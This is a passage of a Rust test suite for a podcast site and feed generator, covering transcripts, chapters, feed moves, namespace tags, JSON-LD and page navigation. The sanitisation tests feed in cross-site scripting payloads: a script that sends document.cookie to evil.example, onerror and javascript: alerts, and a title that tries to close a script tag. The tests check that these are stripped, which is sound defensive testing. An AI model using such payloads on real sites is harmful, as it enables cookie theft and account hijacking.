                "Ann: "
            } else if i == 20 {
                "Bob: "
            } else {
                ""
            };
            format!("{}\n{} --> {}\n{who}{word}\n\n", i + 1, stamp(i * 100), stamp(i * 100 + 90))
        })
        .collect();
    show.write("t.srt", &srt);
    show.build().ok();
    assert_eq!(
        page_cues(&show),
        [format!("[Ann] {}", words[..20].join(" ")), format!("[Bob] {}", words[20..].join(" ")),]
    );
    let html = show.read("public/episodes/pair/index.html");
    let (_, transcript) = html.split_once("<div class=\"transcript\"").unwrap();
    assert_eq!(transcript.split_once("</div>").unwrap().0.matches("data-seek=").count(), 2);
    let vtt = show.read("public/episodes/pair/transcript.vtt");
    assert_eq!(vtt.matches(" --> ").count(), words.len());
}

/// A chapter's title of mostly right-to-left words that opens with a Latin
/// name is laid out right to left (a browser's isolate goes by the first
/// letter: the question mark landed beside the time); a speaker's name
/// is a run of its own before its colon.
#[test]
fn a_right_to_left_chapter_title_that_opens_with_a_latin_name_stays_right_to_left() {
    let title = "CoreDNS 1.0 \u{2014} \u{5de}\u{5d4} \u{5d7}\u{5d3}\u{5e9}?";
    let show = show(&format!(
        "[[episode.chapters]]\nstart = \"0:00\"\ntitle = \"{title}\"\n\n[[episode.chapters]]\nstart = \"0:02\"\ntitle = \"Intro\"\n"
    ));
    show.build().ok();
    let page = show.read("public/episodes/pair/index.html");
    assert!(page.contains(&format!("</time></a> <bdi dir=\"rtl\">{title}</bdi></li>")), "{page}");
    assert!(page.contains("</time></a> <bdi>Intro</bdi></li>"), "{page}");
}

/// A chapter's art at an http URL on an https site is warned of, once an
/// episode, at its chapter's line: apps and browsers refuse it.
#[test]
fn chapter_art_over_http_on_an_https_site_is_warned_of() {
    let chapters = "[[episode.chapters]]\nstart = \"0:00\"\ntitle = \"A\"\nimage = \"http://art.example.org/a.jpg\"\n\n\
                    [[episode.chapters]]\nstart = \"0:01\"\ntitle = \"B\"\nimage = \"http://art.example.org/b.jpg\"\n";
    let show = show(chapters);
    let run = show.build().ok();
    let line = show.read("episodes.toml").lines().position(|l| l == "[[episode.chapters]]").unwrap() + 1;
    assert!(
        run.stderr.contains(&format!(
            "warning: episodes.toml:{line}: episode \"Pair\": chapter 1 (\"A\")'s art http://art.example.org/a.jpg \
             (and 1 more chapters') is http on an https site"
        )),
        "{}",
        run.stderr
    );
    show.write("episodes.toml", &show.read("episodes.toml").replace("http://art", "https://art"));
    let run = show.build().ok();
    assert!(!run.stderr.contains("is http on an https site"), "{}", run.stderr);
}

/// The page's transcript, a cue a line: the speaker where shown, then the
/// text as the page's HTML has it (after the timestamp's link).
fn page_cues(show: &Show) -> Vec<String> {
    let html = show.read("public/episodes/pair/index.html");
    let div = html.split_once("<div class=\"transcript\"").map(|(_, d)| d).unwrap_or_default();
    let div = div.split_once("</div>").map(|(d, _)| d).unwrap_or_default();
    let cue = |line: &str| {
        let who = line.split_once("<strong><bdi>").and_then(|(_, r)| r.split_once("</bdi>:</strong>")).map(|(w, _)| w);
        let text = line.split_once("</time></a> ").map(|(_, t)| t.trim_end_matches("</p>")).unwrap_or(line);
        let text = text.split_once("</strong> ").map_or(text, |(_, t)| t);
        who.map_or_else(|| text.to_string(), |w| format!("[{w}] {text}"))
    };
    div.lines().filter(|l| l.starts_with("<p>")).map(cue).collect()
}

/// WebVTT cue text reads HTML's character references (named, decimal,
/// hex): the page and the SRT counterpart carry the characters, not
/// `&rlm;` as text. One that is not a reference stays as written.
#[test]
fn a_webvtt_transcripts_character_references_are_read_on_the_page_and_in_its_srt() {
    let show = show("transcript = \"t.vtt\"\n");
    let vtt = "WEBVTT\n\n00:00.000 --> 00:02.500\n<v Dana>&rlm;שלום&lrm; and caf&eacute; &#8217;&#x2019; 10&nbsp;km &bogus; &lt;b&gt;\n";
    show.write("t.vtt", vtt);
    show.build().ok();
    let said = "\u{200f}שלום\u{200e} and caf\u{e9} \u{2019}\u{2019} 10\u{a0}km &bogus;";
    assert_eq!(page_cues(&show), [format!("[Dana] {} &lt;b&gt;", said.replace('&', "&amp;"))]);
    // (`<b>` is text: SRT players would read it as bold, so it is `‹b>`.)
    let srt = show.read("public/episodes/pair/transcript.srt");
    assert_eq!(srt, format!("1\n00:00:00,000 --> 00:00:02,500\nDana: {said} \u{2039}b>\n\n"));
}

/// SRT to VTT and back keeps what a cue says: its lines (a dialogue's
/// two), its speaker (`Ann: `, as the SRT counterpart writes one), without
/// the ASS override tags players hide (`{\an8}`); and an escaped `<b` of
/// a VTT is no bold tag in the SRT.
#[test]
fn converting_between_srt_and_vtt_keeps_lines_and_speakers_and_makes_no_tags() {
    let show = show("transcript = \"t.srt\"\n");
    show.write(
        "t.srt",
        "1\n00:00:00,000 --> 00:00:02,500\n{\\an8}Ann: on top\n\n2\n00:00:02,500 --> 00:00:05,000\n- Who?\n- Me.\n",
    );
    show.build().ok();
    assert_eq!(
        show.read("public/episodes/pair/transcript.vtt"),
        "WEBVTT\n\n00:00:00.000 --> 00:00:02.500\n<v Ann>on top\n\n00:00:02.500 --> 00:00:05.000\n- Who?\n- Me.\n"
    );
    assert_eq!(page_cues(&show), ["[Ann] on top", "- Who?<br>- Me."]);

    show.write("episodes.toml", &manifest("transcript = \"t.vtt\"\n"));
    show.write("t.vtt", "WEBVTT\n\n00:00.000 --> 00:02.500\nif a &lt;b &amp;&amp; c &gt; d\nand I &lt;3 you\n");
    show.build().ok();
    assert_eq!(
        show.read("public/episodes/pair/transcript.srt"),
        "1\n00:00:00,000 --> 00:00:02,500\nif a \u{2039}b && c > d\nand I <3 you\n\n"
    );
    // (A cue's other line ends are where a screen was full: spaces on the page.)
    assert_eq!(page_cues(&show), ["if a &lt;b &amp;&amp; c &gt; d and I &lt;3 you"]);
}

/// A feed reader resolves a relative link against the feed's URL, where
/// it leads nowhere: the notes' relative links and images are made
/// absolute against the episode's page, in the feeds and on the page.
#[test]
fn relative_links_in_the_notes_are_absolute_in_the_feeds() {
    let show = show(
        "notes = \"[The first one](../one/), [the top](/), [here](#later) and ![Cover](../../media/cover.jpg)\"\n",
    );
    show.build().ok();
    let item = &show.channel("feed.xml").items()[0].clone();
    let page = "https://example.com/show/episodes/pair/";
    let (description, content) = (item.description().unwrap(), item.content().unwrap());
    for html in [description, content, &show.read("public/episodes/pair/index.html")] {
        let later = format!("href=\"{page}#later\"");
        for url in ["href=\"https://example.com/show/episodes/one/\"", "href=\"https://example.com/\"", &later] {
            assert!(html.contains(url), "{url} not in {html}");
        }
        // (A description has no images: Apple shows none.)
        let image = "src=\"https://example.com/show/media/cover.jpg\"";
        assert!(html == description || html.contains(image), "{image} not in {html}");
    }
    // Absolute ones are kept as written.
    show.write(
        "episodes.toml",
        &manifest("notes = \"[Elsewhere](HTTPS://other.example/a%20b?c=1&d=2) [mail](mailto:a@b.example)\"\n"),
    );
    show.build().ok();
    let item = &show.channel("feed.xml").items()[0].clone();
    let html = item.content().unwrap();
    assert!(
        html.contains("href=\"HTTPS://other.example/a%20b?c=1&amp;d=2\"")
            && html.contains("href=\"mailto:a@b.example\""),
        "{html}"
    );
}

/// A show that moved: each feed names its own new address, so an app
/// moves a per-format feed's subscribers to the same format, not to
/// feed.xml (another podcast:guid).
#[test]
fn each_feed_of_a_show_that_moved_names_its_own_new_address() {
    let itunes_new =
        |show: &Show, feed: &str| show.channel(feed).itunes_ext().and_then(|i| i.new_feed_url().map(str::to_string));
    let moved = |table: &str| manifest("").replace("[podcast]\n", &format!("[podcast]\n{table}"));
    let show = show("");
    show.write("episodes.toml", &moved("new_feed_url = \"https://new.example.org/feed.xml\"\n"));
    let run = show.build().ok();
    assert!(
        run.stderr.contains(
            "warning: episodes.toml:2: `new_feed_url` moves feed.xml's subscribers; feed.ogg.xml's stay at its address"
        ) && run.stderr.contains("new_feed_urls = { ogg = \"https://…/feed.ogg.xml\" }"),
        "{}",
        run.stderr
    );
    assert_eq!(itunes_new(&show, "feed.xml").as_deref(), Some("https://new.example.org/feed.xml"));
    assert_eq!(itunes_new(&show, "feed.ogg.xml"), None);

    show.write(
        "episodes.toml",
        &moved(
            "new_feed_url = \"https://new.example.org/feed.xml\"\n\
             new_feed_urls = { ogg = \"https://new.example.org/ogg.xml\" }\n",
        ),
    );
    let run = show.build().ok();
    assert!(!run.stderr.contains("NEW-FEED") && !run.stderr.contains("stay at its address"), "{}", run.stderr);
    assert_eq!(itunes_new(&show, "feed.xml").as_deref(), Some("https://new.example.org/feed.xml"));
    assert_eq!(itunes_new(&show, "feed.ogg.xml").as_deref(), Some("https://new.example.org/ogg.xml"));
    // The pages send listeners to the new addresses, not to feeds that
    // tell apps they moved: autodiscovery, the subscribe box, the JSON-LD.
    let index = show.read("public/index.html");
    for moved in [
        "<link rel=\"alternate\" type=\"application/rss+xml\" title=\"Fixture Show — RSS\" href=\"https://new.example.org/feed.xml\">",
        "<link rel=\"alternate\" type=\"application/rss+xml\" title=\"Fixture Show — RSS (OGG)\" href=\"https://new.example.org/ogg.xml\">",
        "value=\"https://new.example.org/ogg.xml\"",
    ] {
        assert!(index.contains(moved), "{moved}: {index}");
    }
    assert!(!index.contains("/feed.ogg.xml"), "{index}");
    assert_eq!(jsonld(&index)["webFeed"], "https://new.example.org/feed.xml");

    // One for a feed the show does not make is said; a bad one is an error on its line.
    show.write("episodes.toml", &moved("new_feed_urls = { opus = \"https://new.example.org/o.xml\" }\n"));
    let run = show.build().ok();
    assert!(
        run.stderr.contains("episodes.toml:2: `new_feed_urls` sets `opus`, but the show makes no feed.opus.xml"),
        "{}",
        run.stderr
    );
    show.write("episodes.toml", &moved("new_feed_urls = { ogg = \"ftp://x/feed.ogg.xml\", mp4 = \"https://x/\" }\n"));
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains("episodes.toml:2:25: `ogg` in `new_feed_urls` in [podcast] \"ftp://x/feed.ogg.xml\""),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("unknown key `mp4` in `new_feed_urls` in [podcast]"), "{}", run.stderr);
    // Set on the new site (the feed's own address): it moves no one, said.
    show.write("episodes.toml", &moved("new_feed_url = \"https://EXAMPLE.com:443/show/feed.xml\"\n"));
    let run = show.build().ok();
    assert!(
        run.stderr.contains(
            "<itunes:new-feed-url> is this feed's own address (https://example.com/show/feed.xml): it moves no one \
             [APPLE-CH-NEWFEED]\n  help: a move is told by the old feed"
        ),
        "{}",
        run.stderr
    );
}

/// An HTML transcript is published on the show's own site (perhaps
/// downloaded from an old host by `import`): what would run there is left
/// out, and said; its words and tags stay.
#[test]
fn an_html_transcript_is_published_without_what_would_run_on_the_site() {
    let show = show("transcript = \"t.html\"\n");
    show.write(
        "t.html",
        "<!DOCTYPE html><html><head><title>Pair</title><script>fetch('//evil.example/?'+document.cookie)</script></head>\
         <body><p><cite>Ann:</cite> Hello &amp; <b>welcome</b>.</p><img src=x onerror=\"alert(origin)\">\
         <a href=\"javascript:alert(1)\">more</a> <a href=\"https://example.org/\">notes</a></body></html>",
    );
    let run = show.build().ok();
    assert!(
        run.stderr.contains(
            "episode \"Pair\": <script>, onerror=, href=\"javascript:alert(1)\" in t.html were left out of the published transcript"
        ),
        "{}",
        run.stderr
    );
    // (`x`, relative to the file's place in the show, is no image beside the page.)
    assert!(
        run.stderr.contains(
            "warning: episodes.toml:11: episode \"Pair\": t.html links to \"x\", an address relative to where the \
             file is in the show: published beside the episode's page, it leads elsewhere (a broken link or image)\n  \
             help: write each in full (https://…), where it is on the web, or take it out of the file"
        ),
        "{}",
        run.stderr
    );
    let published = show.read("public/episodes/pair/transcript.html");
    // In its language (the show's, here), as the feed's tag says.
    assert!(published.starts_with("<!DOCTYPE html>\n<html lang=\"en\">\n"), "{published}");
    for gone in ["script", "cookie", "onerror", "alert", "javascript"] {
        assert!(!published.contains(gone), "{gone} in {published}");
    }
    for kept in [
        "<title>Pair</title>",
        "<p><cite>Ann:</cite> Hello &amp; <b>welcome</b>.</p>",
        "<img src=\"x\" alt=\"\">",
        "<a>more</a> <a href=\"https://example.org/\">notes</a>",
    ] {
        assert!(published.contains(kept), "{kept} not in {published}");
    }
    let tags = podcast_tags(&show, "feed.xml", "transcript");
    let url = "https://example.com/show/episodes/pair/transcript.html";
    assert_eq!(tags, [(url.to_string(), "text/html".to_string(), "en".to_string(), String::new())]);

    // A clean one is published as cleaned, with nothing to say; again the same.
    show.write("t.html", "<p><cite>Ann:</cite> Hello.</p>");
    let run = show.build().ok();
    assert!(!run.stderr.contains("left out"), "{}", run.stderr);
    let once = show.read("public/episodes/pair/transcript.html");
    assert!(
        once.contains(
            "<body>\n<nav><a href=\"./\">↩ Pair</a></nav>\n<main>\n<h1>Pair</h1>\n<p><cite>Ann:</cite> Hello.</p>\n</main>\n</body>"
        ),
        "{once}"
    );
    show.run(&["build", "--no-cache"]).ok();
    assert_eq!(show.read("public/episodes/pair/transcript.html"), once);

    // Another tag left out, the file written the same: the warning says the new one.
    show.write("t.html", "<p><cite>Ann:</cite> Hello.</p><textarea>a</textarea>");
    assert!(show.build().ok().stderr.contains("<textarea> in t.html was left out"));
    show.write("t.html", "<p><cite>Ann:</cite> Hello.</p><object data=x></object>");
    let run = show.build().ok();
    assert!(
        run.stderr.contains("<object> in t.html was left out") && !run.stderr.contains("textarea"),
        "{}",
        run.stderr
    );
    assert_eq!(show.read("public/episodes/pair/transcript.html"), once);
}

/// A show's manifest with every Podcasting 2.0 tag a publisher sets: the
/// podcast table, an episode with both files, a trailer.
fn namespace_show() -> (String, String, String) {
    let podcast = PODCAST_TABLE.to_string()
        + r#"medium = "podcast"
persons = [{ name = "Ann Example", href = "https://example.com/ann", img = "https://example.com/ann.jpg" }]
funding = [{ url = "https://example.com/support", text = "Support the show" }]
license = "CC-BY-4.0"
location = { name = "Berlin", geo = "geo:52.52,13.405", osm = "R62422", rel = "creator", country = "DE" }
update_frequency = { text = "Weekly, twelve episodes", rrule = "FREQ=WEEKLY;COUNT=12", dtstart = 2024-01-01 }
podroll = [{ feed_guid = "917393e3-1b1e-5cef-ace4-edaa54e1f810" }]
txt = [{ text = "S6lpp-7ZCn8-dZfGc-OoyaG", purpose = "verify" }]
prefix = "https://op3.dev/e/"
value = { type = "lightning", method = "keysend", recipients = [{ name = "Ann", type = "node", address = "03ae9f91a0cb8ff43840e3c322c4c61f019d8c1c3cea15a25cfc425ac605e61a4a", split = 100 }] }
"#;
    let ep = episode("Pair", "pair-guid", "2024-01-01T00:00:00Z", &["pair-5s.mp3", "vorbis-5s.ogg"])
        + "season = 2\nepisode = 3\nseason_name = \"Cloud\"\nlocation = \"Kreuzberg\"\nlicense = { name = \"my-license\", url = \"https://example.com/l\" }\n\
           persons = [{ name = \"Bob\", role = \"audio engineer\", group = \"audio production\" }]\n\
           soundbites = [{ start = 1, duration = 2.5, title = \"Best bit\" }]\n\
           funding = [{ url = \"https://example.com/guest-cause\", text = \"Our guest's cause\" }]\n";
    let trailer = episode("Coming soon", "trailer-guid", "2023-12-01T00:00:00Z", &["cbr-xing.mp3"])
        + "type = \"trailer\"\nseason = 2\n";
    (podcast, ep, trailer)
}

#[test]
fn every_namespace_tag_a_publisher_sets_round_trips_through_a_real_parser() {
    let (podcast, ep, trailer) = namespace_show();
    let show = Show::with(&format!("{podcast}{ep}{trailer}"), &["pair-5s.mp3", "vorbis-5s.ogg", "cbr-xing.mp3"]);
    show.build().ok();
    let channel = show.channel("feed.xml");
    let p = &channel.extensions()["podcast"];
    let one = |name: &str| p[name][0].clone();
    let attr = |e: &rss::extension::Extension, k: &str| e.attrs().get(k).cloned().unwrap_or_default();
    assert_eq!(one("medium").value(), Some("podcast"));
    // The cover's width from its header, for srcset.
    assert_eq!(attr(&one("images"), "srcset"), "https://example.com/show/media/cover.jpg 1400w");
    // And the tag that replaced it, with what the namespace recommends.
    let image = one("image");
    let said: Vec<String> =
        ["href", "width", "height", "aspect-ratio", "type", "purpose"].iter().map(|k| attr(&image, k)).collect();
    assert_eq!(said, ["https://example.com/show/media/cover.jpg", "1400", "1400", "1/1", "image/jpeg", "artwork"]);
    let host = one("person");
    assert_eq!(
        (host.value(), attr(&host, "role").as_str(), attr(&host, "href").as_str()),
        (Some("Ann Example"), "host", "https://example.com/ann")
    );
    assert_eq!(
        (one("funding").value(), attr(&one("funding"), "url").as_str()),
        (Some("Support the show"), "https://example.com/support")
    );
    assert_eq!(one("license").value(), Some("CC-BY-4.0"));
    let place = one("location");
    let said: Vec<String> = ["geo", "osm", "rel", "country"].iter().map(|k| attr(&place, k)).collect();
    assert_eq!(place.value(), Some("Berlin"));
    assert_eq!(said, ["geo:52.52,13.405", "R62422", "creator", "DE"]);
    let every = one("updateFrequency");
    assert_eq!(
        (every.value(), attr(&every, "rrule").as_str(), attr(&every, "dtstart").as_str()),
        (Some("Weekly, twelve episodes"), "FREQ=WEEKLY;COUNT=12", "2024-01-01")
    );
    assert_eq!(attr(&one("podroll").children()["remoteItem"][0], "feedGuid"), "917393e3-1b1e-5cef-ace4-edaa54e1f810");
    assert_eq!(
        (one("txt").value(), attr(&one("txt"), "purpose").as_str()),
        (Some("S6lpp-7ZCn8-dZfGc-OoyaG"), "verify")
    );
    let recipient = one("value").children()["valueRecipient"][0].clone();
    assert_eq!((attr(&recipient, "name").as_str(), attr(&recipient, "split").as_str()), ("Ann", "100"));
    let t = one("trailer");
    assert_eq!((t.value(), attr(&t, "season").as_str()), (Some("Coming soon"), "2"));
    assert_eq!(attr(&t, "url"), "https://op3.dev/e/example.com/show/media/cbr-xing.mp3");
    // The episode's.
    let item = channel.items().iter().find(|i| i.title() == Some("Pair")).unwrap();
    let e = &item.extensions()["podcast"];
    let ep_one = |name: &str| e[name][0].clone();
    assert_eq!((ep_one("season").value(), attr(&ep_one("season"), "name").as_str()), (Some("2"), "Cloud"));
    assert_eq!(ep_one("episode").value(), Some("3"));
    assert_eq!(ep_one("location").value(), Some("Kreuzberg"));
    assert_eq!(attr(&ep_one("license"), "url"), "https://example.com/l");
    // The episode's own funding (the show's stays in the channel).
    assert_eq!(
        (ep_one("funding").value(), attr(&ep_one("funding"), "url").as_str()),
        (Some("Our guest's cause"), "https://example.com/guest-cause")
    );
    assert_eq!(e["funding"].len(), 1);
    // An item's people replace the show's wholly: the host is named again first.
    let people: Vec<_> = e["person"]
        .iter()
        .map(|p| (p.value().unwrap_or_default().to_string(), attr(p, "role"), attr(p, "group")))
        .collect();
    let said = |name: &str, role: &str, group: &str| (name.to_string(), role.to_string(), group.to_string());
    assert_eq!(people, [said("Ann Example", "host", "cast"), said("Bob", "audio engineer", "audio production")]);
    // One the episode names itself is named as the episode names them, once.
    let (podcast, ep, trailer) = namespace_show();
    let ep = ep.replace("persons = [", "guests = [\"Ann Example\"]\npersons = [");
    let again = Show::with(&format!("{podcast}{ep}{trailer}"), &["pair-5s.mp3", "vorbis-5s.ogg", "cbr-xing.mp3"]);
    again.build().ok();
    let feed = again.read("public/feed.xml");
    let pair = &feed[feed.find("<title>Pair</title>").unwrap()..];
    let pair = &pair[..pair.find("</item>").unwrap()];
    assert_eq!(pair.matches(">Ann Example</podcast:person>").count(), 1, "{pair}");
    assert!(pair.contains("<podcast:person role=\"guest\" group=\"cast\">Ann Example</podcast:person>"), "{pair}");
    // An episode that names no one takes the show's.
    let trailer = channel.items().iter().find(|i| i.title() == Some("Coming soon")).unwrap();
    assert!(trailer.extensions().get("podcast").is_none_or(|e| !e.contains_key("person")));
    let bite = ep_one("soundbite");
    assert_eq!(
        (bite.value(), attr(&bite, "startTime").as_str(), attr(&bite, "duration").as_str()),
        (Some("Best bit"), "1.000", "2.500")
    );
    // The measurement prefix on every enclosure, the URL after it without https://.
    assert_eq!(item.enclosure().unwrap().url(), "https://op3.dev/e/example.com/show/media/pair-5s.mp3");
    // Directories accept it all.
    show.run(&["validate", "public/feed.xml"]).ok();
}

#[test]
fn a_bad_namespace_value_is_a_manifest_error_with_its_line_and_a_fix() {
    let (podcast, ep, trailer) = namespace_show();
    let show = Show::with(&format!("{podcast}{ep}{trailer}"), &["pair-5s.mp3", "vorbis-5s.ogg", "cbr-xing.mp3"]);
    for (good, bad, says) in [
        ("medium = \"podcast\"", "medium = \"radio\"", "is not a medium the Podcasting 2.0 spec lists"),
        ("medium = \"podcast\"", "medium = \"podcastL\"", "is a list medium: a feed that lists other feeds"),
        ("medium = \"podcast\"", "medium = \"mixed\"", "is a list medium: a feed that lists other feeds"),
        ("name = \"Ann Example\", href", "name = \"Ann Example\", role = \"hots\", href", "did you mean \"host\"?"),
        ("geo = \"geo:52.52,13.405\"", "geo = \"52.52,13.405\"", "is not a geo: URI"),
        ("prefix = \"https://op3.dev/e/\"", "prefix = \"http://op3.dev/e\"", "is not a measurement prefix"),
        ("feed_guid = \"917393e3-1b1e-5cef-ace4-edaa54e1f810\"", "feed_guid = \"nope\"", "is not a podcast:guid"),
    ] {
        show.write("episodes.toml", &format!("{}{ep}{trailer}", podcast.replace(good, bad)));
        let run = show.build().fails(1);
        assert!(run.stderr.contains("episodes.toml:") && run.stderr.contains(says), "{bad}: {}", run.stderr);
    }
    show.write(
        "episodes.toml",
        &format!("{podcast}{}{trailer}", ep.replace("start = 1, duration = 2.5", "start = 4, duration = 2.5")),
    );
    let run = show.build().fails(1);
    assert!(run.stderr.contains("soundbite 1 (0:04 + 2 s) ends after the end of the audio"), "{}", run.stderr);
}

/// The JSON-LD of a page, parsed.
fn jsonld(html: &str) -> serde_json::Value {
    let start = html.find("<script type=\"application/ld+json\">").expect("a JSON-LD script") + 35;
    let end = start + html[start..].find("</script>").unwrap();
    serde_json::from_str(&html[start..end]).unwrap_or_else(|e| panic!("{e}: {}", &html[start..end]))
}

/// The index's Subscribe section, near the top, after the description
/// and the latest episode (to play first) and before the other episodes:
/// the apps, and each feed's address as text a listener copies into any
/// other app.
fn subscribe_section_is_near_the_top(index: &str) {
    let subscribe = index
        .split_once(
            "<section class=\"subscribe\" aria-labelledby=\"subscribe\">\n<h2 id=\"subscribe\">Subscribe</h2>\n",
        )
        .and_then(|(before, rest)| Some((before, rest.split_once("</section>")?.0)));
    let (before, subscribe) = subscribe.unwrap_or_else(|| panic!("no subscribe section: {index}"));
    assert!(before.contains("</header>\n<p>Conversations with the people") && before.contains("class=\"latest\""));
    assert!(!before.contains("class=\"episodes\""));
    assert_eq!(
        subscribe,
        "<p class=\"apps\"><a href=\"https://podcasts.apple.com/podcast/id1\">Apple Podcasts</a><span class=\"sep\"> · </span><a href=\"https://pca.st/abc\">Pocket Casts</a></p>\n\
         <p>Add the feed’s address to a podcast app:</p>\n\
         <p><label>RSS <input type=\"url\" readonly value=\"https://podcast.example.com/cloud-native/feed.xml\"></label></p>\n\
         <p><label>RSS (OGG) <input type=\"url\" readonly value=\"https://podcast.example.com/cloud-native/feed.ogg.xml\"></label></p>\n"
    );
}

#[test]
fn pages_carry_open_graph_json_ld_and_subscribe_links_and_the_index_plays_the_latest() {
    let show = Show::sample();
    let manifest = show.read("episodes.toml").replace(
        "utc_offset = \"-04:00\"\n",
        "utc_offset = \"-04:00\"\nsubscribe = { apple = \"https://podcasts.apple.com/podcast/id1\", pocket_casts = \"https://pca.st/abc\" }\n",
    );
    // A title that tries to close the JSON-LD script.
    let manifest = manifest.replace(
        "title = \"Miek Gieben on CoreDNS\"",
        "title = \"Miek </script><script>alert(1)</script> on CoreDNS\"",
    );
    show.write("episodes.toml", &manifest);
    show.build().ok();
    let html = show.read("public/episodes/coredns-miek-gieben/index.html");
    let ld = jsonld(&html);
    assert_eq!(ld["@type"], "PodcastEpisode");
    assert_eq!(ld["name"], "Miek </script><script>alert(1)</script> on CoreDNS", "read back as written");
    assert_eq!(
        (ld["duration"].as_str(), ld["associatedMedia"]["duration"].as_str()),
        (Some("PT12M24S"), Some("PT12M24S"))
    );
    assert_eq!(
        ld["associatedMedia"]["contentUrl"],
        "https://podcast.example.com/cloud-native/media/coredns-miek-gieben.mp3"
    );
    assert_eq!(ld["partOfSeries"]["name"], "Talking Cloud Native with Gordon Haff");
    assert_eq!(html.matches("<script>").count(), 1, "only the page's own seeking script");
    assert!(html.contains("<meta property=\"og:audio\" content=\"https://podcast.example.com/cloud-native/media/coredns-miek-gieben.mp3\">"));
    assert!(
        html.contains(
            "<meta property=\"og:image\" content=\"https://podcast.example.com/cloud-native/media/cover.jpg\">"
        )
    );
    assert!(html.contains("<meta name=\"twitter:card\" content=\"summary\">"));
    // The show's cover beside the episode's title is decoration there, as
    // on the index beside the show's (link previews keep their alt).
    assert!(html.contains("<img class=\"cover\" src=\"../../media/cover.jpg\" alt=\"\">"), "{html}");
    // Beside the player, how to follow the show: the index's section, the apps.
    assert!(
        html.contains(
            "</ul>\n<p class=\"follow\"><a href=\"../../#subscribe\">Subscribe</a><span class=\"sep\"> · </span>\
             <a href=\"https://podcasts.apple.com/podcast/id1\">Apple Podcasts</a><span class=\"sep\"> · </span>\
             <a href=\"https://pca.st/abc\">Pocket Casts</a></p>\n<div class=\"notes\">"
        ),
        "{html}"
    );
    let index = show.read("public/index.html");
    assert!(index.contains("<header class=\"show\">\n<img src=\"media/cover.jpg\" alt=\"\">"), "{index}");
    assert!(
        index.contains(
            "<meta property=\"og:image:alt\" content=\"Cover art of Talking Cloud Native with Gordon Haff\">"
        )
    );
    assert!(html.contains("<a href=\"https://podcasts.apple.com/podcast/id1\">Apple Podcasts</a> · <a href=\"https://pca.st/abc\">Pocket Casts</a>"), "{html}");
    let index = show.read("public/index.html");
    let series = jsonld(&index);
    assert_eq!(
        (series["@type"].as_str(), series["webFeed"].as_str()),
        (Some("PodcastSeries"), Some("https://podcast.example.com/cloud-native/feed.xml"))
    );
    let text = page_text(&index);
    assert!(text.contains("Latest episode"), "{text}");
    subscribe_section_is_near_the_top(&index);
    // The latest episode is named, with a link to its page, its date and length.
    assert!(
        index.contains(
            "<h2>Latest episode</h2>\n<h3><a href=\"episodes/kubernetes-sarah-novotny/\">Sarah Novotny on the Kubernetes community</a></h3>\n\
             <p class=\"meta\"><time datetime=\"2017-04-12T09:03:00-04:00\">12 April 2017</time> · <time datetime=\"PT20M54S\">20:54</time></p>"
        ),
        "{index}"
    );
    assert!(
        index.contains("<audio controls preload=\"none\" aria-label=\"Sarah Novotny on the Kubernetes community\">")
    );
    assert!(index.contains("<source src=\"media/kubernetes-sarah-novotny.mp3\" type=\"audio/mpeg\">"));
    assert!(
        text.contains("A project within the Cloud Native Computing Foundation, Fluentd is focused on logging"),
        "the excerpt: {text}"
    );
    // An unknown subscribe key is a manifest error with a suggestion.
    show.write("episodes.toml", &manifest.replace("pocket_casts =", "pocketcasts ="));
    let run = show.build().fails(1);
    assert!(
        run.stderr.contains("unknown key `pocketcasts`") && run.stderr.contains("did you mean `pocket_casts`?"),
        "{}",
        run.stderr
    );
}

/// An episode page's links to the episodes before and after it: (where,
/// title) of `rel="prev"`, then of `rel="next"`.
fn around(html: &str) -> [Option<(String, String)>; 2] {
    let nav = html.split_once("<nav class=\"around\"").map(|(_, rest)| rest.split_once("</nav>").unwrap().0);
    ["prev", "next"].map(|rel| {
        let link = nav?.split_once(&format!("rel=\"{rel}\" href=\""))?.1;
        let (href, rest) = link.split_once('"')?;
        let title = rest.split_once("<bdi>")?.1.split_once("</bdi>")?.0;
        Some((href.to_string(), title.to_string()))
    })
}

#[test]
fn an_episode_page_links_to_the_episodes_before_and_after_it_as_the_story_runs() {
    let show = Show::sample();
    show.build().ok();
    let page = |slug: &str| show.read(&format!("public/episodes/{slug}/index.html"));
    let link = |slug: &str, title: &str| Some((format!("../../episodes/{slug}/"), title.to_string()));
    let fluentd = link("fluentd-eduardo-silva", "Eduardo Silva on Fluentd");
    let coredns = link("coredns-miek-gieben", "Miek Gieben on CoreDNS");
    let prometheus = link("prometheus-bjorn-rabenstein", "Björn Rabenstein on Prometheus");
    let kubernetes = link("kubernetes-sarah-novotny", "Sarah Novotny on the Kubernetes community");
    // Oldest first: the first has no episode before it, the newest none after.
    assert_eq!(around(&page("fluentd-eduardo-silva")), [None, coredns.clone()]);
    assert_eq!(around(&page("coredns-miek-gieben")), [fluentd.clone(), prometheus.clone()]);
    assert_eq!(around(&page("prometheus-bjorn-rabenstein")), [coredns.clone(), kubernetes.clone()]);
    assert_eq!(around(&page("kubernetes-sarah-novotny")), [prometheus.clone(), None]);
    let html = page("coredns-miek-gieben");
    assert!(
        html.contains(
            "<nav class=\"around\" aria-labelledby=\"around\">\n<span id=\"around\" hidden>More episodes</span>\n\
             <a class=\"previous\" rel=\"prev\" href=\"../../episodes/fluentd-eduardo-silva/\"><span class=\"meta\">\
             <span aria-hidden=\"true\">← </span><span>Previous episode</span></span> <bdi>Eduardo Silva on Fluentd</bdi></a>"
        ),
        "{html}"
    );
    assert!(
        html.contains(
            "><span class=\"meta\"><span>Next episode</span><span aria-hidden=\"true\"> →</span></span> <bdi>"
        )
    );
    // A title edited: the pages beside its episode are made again with it
    // (their own episodes unchanged), the others kept.
    let manifest = show.read("episodes.toml");
    let edited = manifest.replace("title = \"Björn Rabenstein on Prometheus\"", "title = \"Björn on <Prometheus>\"");
    assert_ne!(edited, manifest);
    show.write("episodes.toml", &edited);
    let before = page("fluentd-eduardo-silva");
    show.build().ok();
    let retitled = link("prometheus-bjorn-rabenstein", "Björn on &lt;Prometheus&gt;");
    assert_eq!(around(&page("coredns-miek-gieben")), [fluentd.clone(), retitled.clone()]);
    assert_eq!(around(&page("kubernetes-sarah-novotny")), [retitled, None]);
    assert_eq!(page("fluentd-eduardo-silva"), before);
    // A serial show's story runs by season, then date; in German.
    let serial = manifest
        .replacen("[podcast]\n", "[podcast]\ntype = \"serial\"\n", 1)
        .replace("language = \"en\"", "language = \"de\"")
        .replace("date = 2017-04-12T09:00:00-04:00\n", "date = 2017-04-12T09:00:00-04:00\nseason = 2\n");
    show.write("episodes.toml", &serial);
